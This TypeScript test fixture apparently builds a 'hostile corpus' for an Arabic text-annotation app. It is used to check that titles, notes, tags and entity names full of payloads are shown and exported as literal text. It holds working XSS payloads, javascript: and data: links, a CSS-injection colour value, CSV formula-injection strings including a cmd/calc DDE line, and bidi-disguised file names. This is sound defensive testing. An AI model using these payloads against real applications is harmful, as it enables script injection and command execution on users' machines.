/**
 * The hostile corpus (issue 14): one library whose every analyst- or file-supplied string carries
 * markup, script URLs, template syntax, HTML entities, spreadsheet formulas and bidi controls —
 * the article's text, title and file name, its note, tag labels and colour, a claimant typed by
 * hand, notes with `javascript:` links, entity names, Latin names, aliases and notes. Every payload
 * that could run sets `window.__hostile` (and most also call `alert`), so a test sees any that
 * ran; every one must instead be shown, and exported, as the literal text it is.
 *
 * Shared by the export unit tests (built here as InterchangeData) and the e2e views test (written
 * as a project bundle and imported through the app, like a colleague's file).
 */
import type { AnnotationRecord, ClaimFields } from '../../src/shared/annotation/annotation';
import { quoteOf } from '../../src/shared/annotation/snapSpan';
import { defaultTags, type TagDefinition } from '../../src/shared/annotation/tagSet';
import type { EntityRecord } from '../../src/shared/entity/entity';
import type { InterchangeData } from '../../src/shared/interchange/interchange';
import type { ReportInput } from '../../src/shared/report/reportInput';
import { sha256Hex } from '../../src/shared/text/hash';
import { lexicalNote } from './interchange/interchangeFixture';

/** Each kind of payload, each marked with its own name when it runs. */
export const PAYLOADS = {
  script: `<script>window.__hostile='script';alert('script')</script>`,
  img: `<img src=x onerror="window.__hostile='img';alert('img')">`,
  svg: `<svg onload="window.__hostile='svg'"><circle r=9></circle></svg>`,
  iframe: `<iframe src="javascript:parent.__hostile='iframe'" srcdoc="<script>parent.__hostile='srcdoc'</script>"></iframe>`,
  breakout: `"'><img src=x onerror=window.__hostile='breakout'><!--`,
  mustache: `{{constructor.constructor('window.__hostile="mustache"')()}}`,
  template: "${window.__hostile='template'}",
  scriptUrl: `javascript:window.__hostile='url'`,
  entities: '&lt;b&gt;bold&lt;/b&gt; &amp;amp; &#60;script&#62; &nbsp;',
  bidi: 'invoice\u202Efdp.txt \u202Dlro\u202C \u2066lri\u2069 \u2067rli\u2069 \u2068fsi\u2069 rlm\u200F',
} as const;

/** Every payload on one line, as a hostile paragraph carries them. */
export const HOSTILE_LINE = Object.values(PAYLOADS).join(' ');

/** Strings that start like spreadsheet formulas (CSV injection). */
export const FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd', '-2+3+cmd'] as const;

/** A disguised file name: reads as "invoicetxt.pdf" when the override is not shown. */
export const DISGUISED_FILE = 'invoice\u202Efdp.txt';
/** How the app must show it. */
export const DISGUISED_SHOWN = 'invoice⟨RLO⟩fdp.txt';

export const HOSTILE_TITLE = `${PAYLOADS.img} تقرير ${DISGUISED_FILE}`;
export const HOSTILE_FILE_NAME = `${DISGUISED_FILE}<svg onload=alert(1)>.txt`;

/** The article: Arabic sentences around the payloads, one legitimate RLM, formulas on their own line. */
export const HOSTILE_TEXT = [
  `قال بوتين إن ${HOSTILE_LINE} ثم غادر.`, // A second بوتين, not yet a mention: "find all mentions" lists this sentence with its payload.
  `وأضاف المتحدث باسم بوتين\u200F "${PAYLOADS.script}" في تصريح لاحق.`,
  `${FORMULAS.join(' و ')} نهاية.`,
].join('\n');

/** A Lexical note with every payload as text, a `javascript:` link, a link whose URL breaks out of its attribute, and a hostile style. */
export const HOSTILE_NOTE = JSON.stringify({
  root: {
    type: 'root',
    version: 1,
    direction: null,
    format: '',
    indent: 0,
    children: [
      {
        type: 'paragraph',
        version: 1,
        direction: null,
        format: '',
        indent: 0,
        textFormat: 0,
        textStyle: '',
        children: [
          { detail: 0, format: 0, mode: 'normal', style: "color:red;background:url('javascript:window.__hostile=1')", text: HOSTILE_LINE, type: 'text', version: 1 },
          link(PAYLOADS.scriptUrl, 'click me'),
          link(`https://example.org/"><script>window.__hostile='href'</script>`, 'breakout link'),
          link(`  JaVaScRiPt:window.__hostile='mixed'`, 'mixed case'),
          link(`data:text/html,<script>window.__hostile='data'</script>`, 'data link'),
        ],
      },
    ],
  },
});

function link(url: string, text: string) {
  return {
    type: 'link',
    url,
    rel: null,
    target: '_self',
    title: PAYLOADS.breakout,
    direction: null,
    format: '',
    indent: 0,
    version: 1,
    children: [{ detail: 0, format: 0, mode: 'normal', style: '', text, type: 'text', version: 1 }],
  };
}

export const HOSTILE_TAG: TagDefinition = {
  id: 'hostile-tag',
  labelEn: `${FORMULAS[0]} ${PAYLOADS.img}`,
  labelAr: `${PAYLOADS.svg} وسم \u202Eكيان`,
  // Not a colour: an attempt to add rules to the highlight style sheet.
  color: 'red, transparent); } body { display: none } ::highlight(x) { color: red',
  kind: 'entity',
  order: 'z0',
  createdAt: 1_700_000_000_000,
  updatedAt: 1_700_000_000_000,
  author: PAYLOADS.img,
};

export const PUTIN_ENTITY = 'hostile-entity-putin';
export const HOSTILE_ENTITY = 'hostile-entity-named';
export const HOSTILE_ENTITY_NAME = `${PAYLOADS.script} كيان \u202Eexe.gpj`;

const claim = (fields: Partial<ClaimFields>): ClaimFields => ({ claimantAnnotationId: null, claimantText: '', attribution: 'said', status: 'disputed', confidence: 50, ...fields });

export const IDS = { putin: 'hostile-a-putin', claim: 'hostile-a-claim', typed: 'hostile-a-typed', formula: 'hostile-a-formula', event: 'hostile-a-event' } as const;

/** The hostile library, with the five default tags and one hostile tag. */
export async function hostileCorpus(): Promise<InterchangeData> {
  const articleId = await sha256Hex(HOSTILE_TEXT);
  const span = (id: string, tagId: string, words: string, extra: Partial<AnnotationRecord> = {}): AnnotationRecord => {
    const start = HOSTILE_TEXT.indexOf(words);
    if (start < 0) throw new Error(`hostile corpus: "${words}" is not in the text`);
    const end = start + words.length;
    return {
      id,
      articleId,
      tagId,
      start,
      end,
      ...quoteOf(HOSTILE_TEXT, { start, end }),
      note: null,
      claim: null,
      createdAt: 1_700_000_000_000,
      updatedAt: 1_700_000_000_001,
      author: PAYLOADS.svg,
      ...extra,
    };
  };
  const entity = (id: string, fields: Partial<EntityRecord>): EntityRecord => ({
    id,
    name: 'بوتين',
    latinName: '',
    type: 'person',
    aliases: [],
    wikidataId: null,
    note: null,
    createdAt: 1_700_000_000_000,
    updatedAt: 1_700_000_000_000,
    author: PAYLOADS.img,
    ...fields,
  });
  return {
    exportedAt: 1_700_000_999_000,
    analystName: PAYLOADS.breakout,
    tags: [...defaultTags(1_600_000_000_000, 'isnad'), HOSTILE_TAG],
    entities: [
      entity(PUTIN_ENTITY, { latinName: PAYLOADS.img, aliases: [`${PAYLOADS.svg} بوتين`, PAYLOADS.template], note: HOSTILE_NOTE }),
      entity(HOSTILE_ENTITY, {
        name: HOSTILE_ENTITY_NAME,
        latinName: PAYLOADS.breakout,
        type: 'event',
        aliases: [PAYLOADS.mustache],
        note: lexicalNote([[PAYLOADS.script, { link: PAYLOADS.scriptUrl, text: 'x' }]]),
      }),
    ],
    claimLinks: [{ id: 'hostile-link', fromId: IDS.claim, toId: IDS.typed, kind: 'contradicts', createdAt: 1_700_000_000_000, updatedAt: 1_700_000_000_000, author: PAYLOADS.script }],
    articles: [
      {
        article: {
          id: articleId,
          title: HOSTILE_TITLE,
          fileName: HOSTILE_FILE_NAME,
          sourceKey: `hostile/${HOSTILE_FILE_NAME}`,
          encoding: 'utf-8',
          length: HOSTILE_TEXT.length,
          detectedDirection: 'rtl',
          directionOverride: null,
          previousVersionId: null,
          importedAt: 1_700_000_000_000,
          createdAt: 1_700_000_000_000,
          updatedAt: 1_700_000_000_000,
          author: PAYLOADS.img,
        },
        text: HOSTILE_TEXT,
        annotations: [
          span(IDS.putin, 'person', 'بوتين', { entityId: PUTIN_ENTITY, note: HOSTILE_NOTE }),
          span(IDS.claim, 'claim', `إن ${HOSTILE_LINE}`, { note: HOSTILE_NOTE, claim: claim({ claimantAnnotationId: IDS.putin }) }),
          span(IDS.typed, 'claim', 'في تصريح', { claim: claim({ claimantText: `${PAYLOADS.breakout}${PAYLOADS.img} ${FORMULAS[1]}`, attribution: 'reported', status: 'false' }) }),
          // The note's second paragraph is written to look like a brat record, were a line break let through.
          span(IDS.formula, HOSTILE_TAG.id, FORMULAS[0], { note: lexicalNote([[FORMULAS[2]], ['T99\tperson 0 5\tinjected'], [FORMULAS[3]]]) }),
          span(IDS.event, 'event', FORMULAS[1], { entityId: HOSTILE_ENTITY }),
        ],
        note: { articleId, note: HOSTILE_NOTE, createdAt: 1_700_000_000_000, updatedAt: 1_700_000_000_000, author: PAYLOADS.img },
      },
    ],
  };
}

/** The same library as a report's input (what the app reads out of its database for a report). */
export function hostileReportInput(data: InterchangeData, language: 'en' | 'ar'): ReportInput {
  const article = data.articles[0]!;
  const exact = (id: string) => article.annotations.find((a) => a.id === id)!.exact;
  return {
    title: article.article.title,
    generatedAt: 1_700_000_000_000,
    timeZone: 'UTC',
    analystName: data.analystName,
    language,
    scope: 'article',
    filters: { tagIds: [], claimStatus: 'all' },
    tags: data.tags,
    articles: [
      {
        article: article.article,
        text: article.text,
        annotations: article.annotations,
        articleNote: article.note?.note ?? null,
        claimLinks: [
          { claimId: IDS.claim, kind: 'contradicts', outgoing: true, other: { id: IDS.typed, exact: exact(IDS.typed), articleTitle: article.article.title } },
          { claimId: IDS.typed, kind: 'contradicts', outgoing: false, other: { id: IDS.claim, exact: exact(IDS.claim), articleTitle: article.article.title } },
        ],
      },
    ],
    entities: data.entities!.map(({ id, name, latinName, type, aliases, wikidataId }) => ({ id, name, latinName, type, aliases, wikidataId })),
  };
}

/** Every payload string a reader of an export must find as text (never as markup). */
export const PAYLOAD_STRINGS: readonly string[] = Object.values(PAYLOADS);
